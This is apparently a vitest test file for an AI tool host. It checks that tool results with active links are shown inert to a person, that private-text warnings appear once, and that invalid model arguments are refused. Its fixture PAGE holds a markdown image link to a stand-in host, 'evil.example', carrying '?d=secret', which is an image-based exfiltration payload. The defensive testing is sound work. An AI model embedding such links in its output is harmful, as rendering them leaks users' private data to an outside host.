/** What a person is told about results and private text, through whole hosts. */

import { expect, test } from 'vitest'
import { printResult } from '../../../src/cli/output/content.ts'
import { MediaFolder } from '../../../src/cli/output/media.ts'
import { Screen } from '../../../src/cli/output/screen.ts'
import { Conversation } from '../../../src/host/conversation/chat/conversation.ts'
import type { ServerSpec } from '../../../src/host/model/server-spec.ts'
import { createServer } from '../../../src/server/index.ts'
import { memoryIo } from '../../cli/support/memory-io.ts'
import { calling, chat, hosts, person, spy, textOf } from '../hosts.ts'

const { host: hostWith } = hosts()

type Service = ReturnType<typeof createServer>

const spec = (service: Service, more: Partial<ServerSpec> = {}): Omit<ServerSpec, 'id'> => ({
  tier: 'trusted',
  provenance: [],
  transport: { type: 'memory', service },
  ...more,
})

const PAGE = 'See ![logo](https://evil.example/x.png?d=secret) and <img src=x>'
const ACTIVE = /\]\(|<img/

const web = () => {
  const server = createServer({ name: 'web', version: '1' })
  server.tool('page', { description: 'Reads a page' }, () => PAGE)
  return server
}

test('links in a result are inert in the question about it, and the model gets the bytes of the tool', async () => {
  const ask = person()
  const policy = { roots: {}, layers: { user: [{ id: 'look', effect: 'ask' as const, match: { action: 'tool.result' as const } }] } }
  const model = spy([calling('web__page')])
  const host = await hostWith({ servers: { web: spec(web()) }, ask, policy, model })
  await chat(host, 'go')
  expect(ask.saw('result')).toHaveLength(1)
  expect(ask.read()).toContain('https://evil.example/x.png?d=secret')
  expect(ask.read()).not.toMatch(ACTIVE)
  expect(JSON.stringify(model.asked[1]?.messages)).toContain(PAGE)
})

test.each([
  [true, 'inert'],
  [false, 'as the tool wrote them'],
])('links in a result that is printed with isTTY %s are %s', async (isTTY) => {
  const host = await hostWith({ servers: { web: spec(web()) }, ask: person() })
  const result = await host.call('web__page')
  expect(textOf(result)).toBe(PAGE)
  const io = memoryIo({ isTTY, columns: 120, env: { NO_COLOR: '1' } })
  await printResult({ io, screen: new Screen(io) }, { ...result, structuredContent: { page: PAGE } }, new MediaFolder(io), 'page')
  expect(io.out()).toContain('https://evil.example/x.png?d=secret')
  expect(ACTIVE.test(io.out())).toBe(!isTTY)
})

test('the person is told once in a conversation that short private passages are no longer recognised', async () => {
  const mail = createServer({ name: 'mail', version: '1' })
  mail.tool('inbox', { description: 'Reads mail' }, () =>
    Array.from({ length: 500 }, (_, at) => `message ${at} of ${at * 7919}`).join('\n'),
  )
  mail.tool('send', { description: 'Sends mail', input: { type: 'object', properties: { n: { type: 'number' } } } }, () => 'sent')
  const ask = person()
  const model = spy([calling('mail__send')], [calling('mail__inbox')], [calling('mail__send', { n: 1 })], [calling('mail__send', { n: 2 })])
  const servers = { mail: spec(mail, { labels: ['private:mail'] }) }
  const host = await hostWith({ servers, ask, model })
  const conversation = new Conversation()
  // The limits of the first call hold.
  conversation.flow({ pieces: 10 })
  await chat(host, 'go', { conversation })
  expect(ask.saw('call').map(({ mayMissOrigins }) => mayMissOrigins)).toEqual([false, false, true, false])
  expect(ask.read().split('only long passages of it are recognised')).toHaveLength(2)
})

test('invalid arguments of a model are refused before the person is asked, and the model gets the error', async () => {
  const notes = createServer({ name: 'notes', version: '1' })
  const input = { type: 'object', properties: { n: { type: 'number' } }, required: ['n'] } as const
  notes.tool('add', { description: 'Adds', input }, () => 'added')
  const ask = person()
  const model = spy([calling('notes__add', { n: 'one' })])
  const host = await hostWith({ servers: { notes: spec(notes) }, ask, model })
  await chat(host, 'go')
  expect(ask.saw('call')).toEqual([])
  expect(JSON.stringify(model.asked[1]?.messages)).toContain('The tool was not called. Arguments of tool')
})
